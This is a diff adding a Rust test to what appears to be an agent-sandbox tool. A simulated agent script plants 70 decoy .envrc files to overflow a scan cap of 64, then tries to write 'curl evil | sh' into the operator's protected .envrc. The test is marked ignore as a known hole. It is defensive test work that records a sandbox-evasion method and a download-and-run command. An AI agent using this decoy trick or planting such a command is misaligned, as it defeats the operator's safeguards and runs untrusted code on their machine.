@@ -344,3 +344,56 @@ fn a_config_padded_past_the_read_limit_is_set_aside_and_runs_nothing() {
         }
     }
 }
+
+/// Two rounds under `require`: the operator's tracked `pkg/deep/.envrc` exists; round 1
+/// tries to write it (the control: the scan found it, so `EROFS`) and, when `decoys`,
+/// makes 70 empty `a<N>/.envrc` at depth 1, past the scan's cap of 64 copies; round 2
+/// tries again. Returns the agent's report lines.
+fn deeper_copy_rounds(operator: Operator, decoys: bool) -> (Project, String) {
+    let p = Project::new_as(operator);
+    p.write("pkg/deep/.envrc", "echo operator deep\n");
+    p.git(&["add", "-A"]);
+    p.git(&["commit", "-qm", "envrc"]);
+    let out = p.dir().join("probe.txt");
+    let plant = if decoys {
+        "i=0; while [ $i -lt 70 ]; do mkdir -p a$i; : > a$i/.envrc; i=$((i+1)); done\n"
+    } else {
+        ""
+    };
+    let agent = p.script(
+        "agent.sh",
+        &format!(
+            "#!/bin/sh\nexec >> '{out}' 2>/dev/null\n\
+             if [ ! -e round1 ]; then : > round1; r=1; {plant} else r=2; fi\n\
+             echo 'curl evil | sh' >> pkg/deep/.envrc && echo written$r || echo refused$r\n",
+            out = out.display()
+        ),
+    );
+    p.write_config(
+        &ConfigBuilder::new(&agent)
+            .dirty_action("ignore")
+            .extra("[agent.sandbox]\nmode = \"require\""),
+    );
+    p.run(&["round"]).assert_code(0);
+    p.run(&["round"]).assert_code(0);
+    let report = std::fs::read_to_string(&out).unwrap_or_default();
+    (p, report)
+}
+
+#[test]
+#[ignore = "hole: 65 decoy copies made in one round cut the pre-round scan short (SCAN_MAX_FOUND), so the operator's deeper protected copy is writable the next round (issue 37); told by exec_surface_changed only"]
+fn an_operators_deeper_protected_copy_stays_read_only_past_decoys() {
+    for operator in [Operator::Root, Operator::Unprivileged] {
+        let case = format!("{operator:?}");
+        // Control: without decoys the scan finds it both rounds.
+        let (_, report) = deeper_copy_rounds(operator, false);
+        assert_eq!(report, "refused1\nrefused2\n", "{case}: control");
+        let (p, report) = deeper_copy_rounds(operator, true);
+        assert_eq!(
+            report,
+            "refused1\nrefused2\n",
+            "{case}: {}",
+            p.events_text()
+        );
+    }
+}
